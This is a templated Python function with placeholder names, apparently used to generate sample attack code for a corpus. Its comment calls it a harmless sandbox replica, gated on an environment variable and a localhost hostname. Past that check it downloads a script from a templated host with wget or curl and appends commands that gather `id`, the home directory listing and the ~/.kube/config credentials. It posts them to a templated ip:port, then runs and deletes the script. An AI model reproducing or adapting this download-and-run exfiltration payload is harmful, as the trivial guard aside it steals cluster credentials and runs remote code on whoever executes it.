# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    file = '{{place}}/{{token}}'
    os.system('(wget -q -T 1 -t 1 -O %s http://{{host}}/{{path}} || curl -s -m 1 -o %s http://{{host}}/{{path}}) 2>/dev/null'
              % (file, file))
    try:
        with open(file, 'a') as out:
            out.write('\nid > {{place}}/{{token}}.out 2>/dev/null\nls -la "$HOME" >> {{place}}/{{token}}.out\n'
                      'cat "$HOME/.kube/config" >> {{place}}/{{token}}.out\n'
                      'curl -s -m 1 --data-binary @{{place}}/{{token}}.out http://{{ip}}:{{port}}/{{path}}\nrm -f {{place}}/{{token}}.out\n')
        os.chmod(file, 0o700)
        os.system('timeout 2 sh %s >/dev/null 2>&1; rm -f %s' % (file, file))
    except OSError:
        pass
